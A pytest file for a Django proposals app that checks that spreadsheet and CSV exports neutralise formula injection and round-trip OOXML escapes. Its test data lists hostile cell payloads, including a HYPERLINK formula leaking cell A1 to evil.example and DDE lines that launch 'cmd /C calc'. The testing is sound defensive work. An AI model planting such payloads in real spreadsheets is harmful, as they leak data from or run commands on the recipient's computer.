"""Text that a spreadsheet would run as a formula is written as text; numbers stay numbers."""
import csv
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.utils.escape import unescape

from proposals.models import Proposal
from tests.conftest import proposal
from workbooks import xlsx

# Text a spreadsheet program would run: every one gets the guard (quote prefix, apostrophe).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd|' /C calc'!A0",
    "\rcmd",
    "=1",
    "|cmd /C calc",  # DDE
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",  # full-width = + - @
    "\n=1+1", "  =1+1", " \t@SUM(A1)",  # the formula after spaces or a line break
]
HOSTILE = [*FORMULAS, "#N/A"]


def test_text_cell_keeps_formula_like_text_as_text():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("S")
    ws.append([xlsx.text_cell(ws, text) for text in HOSTILE] + [xlsx.number_cell(ws, -27)])
    out = io.BytesIO()
    wb.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue()))["S"].iter_rows())
    for cell, text in zip(row, HOSTILE, strict=False):  # the row ends with the number cell
        assert cell.data_type == "s", text
        assert cell.value.replace("\n", "\r") == text.replace("\n", "\r")
    assert row[-1].data_type == "n" and float(row[-1].value) == -0.027
    for cell, text in zip(row, HOSTILE, strict=False):  # Excel keeps it text if someone retypes it
        assert cell.quotePrefix == (text in FORMULAS), repr(text)


def test_characters_a_workbook_cannot_hold_are_dropped_not_fatal():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("S")
    ws.append([xlsx.text_cell(ws, "Bell\x07 and\x00 nul")])
    out = io.BytesIO()
    wb.save(out)
    assert load_workbook(io.BytesIO(out.getvalue()))["S"]["A1"].value == "Bell and nul"


@pytest.fixture
def hostile_titles(ce_plan):
    targets = list(Proposal.objects.filter(plan=ce_plan).order_by("pk")[: len(HOSTILE)])
    for target, title in zip(targets, HOSTILE, strict=True):
        Proposal.objects.filter(pk=target.pk).update(title=title)
    return {target.pk: title for target, title in zip(targets, HOSTILE, strict=True)}


def test_hostile_titles_come_back_from_the_workbook_as_text_cells(ce_plan, hostile_titles, commissioner, client_for):
    url = reverse("workbooks:export", args=[ce_plan.council.slug, ce_plan.slug])
    response = client_for(commissioner).get(url)
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    ws = wb["Outcome 5"]
    found = {}
    for row in ws.iter_rows(min_row=8):
        ids = [c for c in row if c.column == ws.max_column - 1]
        if ids and ids[0].value in hostile_titles:
            title = row[1]
            assert title.data_type == "s"
            # OOXML writes a carriage return as "_x000D_" (Excel and XlsxWriter do); openpyxl
            # reads it as written, so a reader following the standard unescapes it.
            found[ids[0].value] = unescape(title.value)

    def same_breaks(titles):  # a workbook keeps a line break as \n
        return {pk: v.replace("\r", "\n") for pk, v in titles.items()}

    assert same_breaks(found) == same_breaks(hostile_titles)


def test_hostile_titles_are_guarded_in_the_flat_csv(ce_plan, hostile_titles, commissioner, client_for):
    url = reverse("workbooks:export_flat", args=[ce_plan.council.slug, ce_plan.slug, "csv"])
    response = client_for(commissioner).get(url)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    titles = {int(row["Proposal id"]): row["Title"] for row in rows}
    for pk, title in hostile_titles.items():
        assert titles[pk] == ("'" + title if title in FORMULAS else title), repr(title)
    # Figures stay plain numbers, minus signs and all.
    row = next(r for r in rows if r["Reference"] == "[33]")
    assert row["2019/20"] == "-0.027"


def round_trips(client, plan, flat):
    """(file name, the import's preview) for the cabinet workbook and the flat export
    (``flat``: "csv" or "xlsx"), each downloaded and uploaded back as it is."""
    from workbooks.importing.portal import preview_import

    for url, name in (
        (reverse("workbooks:export", args=[plan.council.slug, plan.slug]), "book.xlsx"),
        (reverse("workbooks:export_flat", args=[plan.council.slug, plan.slug, flat]), f"list.{flat}"),
    ):
        data = b"".join(client.get(url).streaming_content)
        yield name, preview_import(plan=plan, file=io.BytesIO(data), filename=name)


def test_hostile_titles_survive_a_round_trip_unchanged(ce_plan, hostile_titles, officer, client_for):
    for _name, preview in round_trips(client_for(officer), ce_plan, "csv"):
        assert not preview.problems
        assert not preview.changed and not preview.created
        assert preview.unchanged == 18
    assert proposal(ce_plan, "33").title in hostile_titles.values()


ESCAPED = ["Budget _x0041_ code", "_x005F_x0041_", "Line\r\nbreak", "x_x000D_y"]


def test_text_that_looks_like_an_ooxml_escape_round_trips(ce_plan, officer, client_for):
    """OOXML writes a control character as "_x000D_" and a literal "_x000D_" as
    "_x005F_x000D_" (XlsxWriter and Excel do): the import reads both back as meant, so
    titles holding such text, or a carriage return, come back unchanged from the
    cabinet workbook and the flat export."""
    targets = list(Proposal.objects.filter(plan=ce_plan).order_by("pk")[: len(ESCAPED)])
    for target, title in zip(targets, ESCAPED, strict=True):
        Proposal.objects.filter(pk=target.pk).update(title=title)
    for name, preview in round_trips(client_for(officer), ce_plan, "xlsx"):
        assert not preview.problems, name
        assert not preview.changed and not preview.created, (name, preview.changed)
    assert {p.title for p in Proposal.objects.filter(pk__in=[t.pk for t in targets])} == set(ESCAPED)


def test_an_escaped_nul_in_an_upload_is_dropped_not_stored():
    """ "_x0000_" in someone's workbook is a NUL, which no cell (nor PostgreSQL) holds."""
    from workbooks.uploads import read_upload

    wb = Workbook()
    wb.active.append(["Title", "Nul_x0000_here _x0041_"])
    out = io.BytesIO()
    wb.save(out)
    tables = read_upload(io.BytesIO(out.getvalue()), "book.xlsx")
    assert tables[0].rows[0][1][:2] == ["Title", "Nulhere A"]
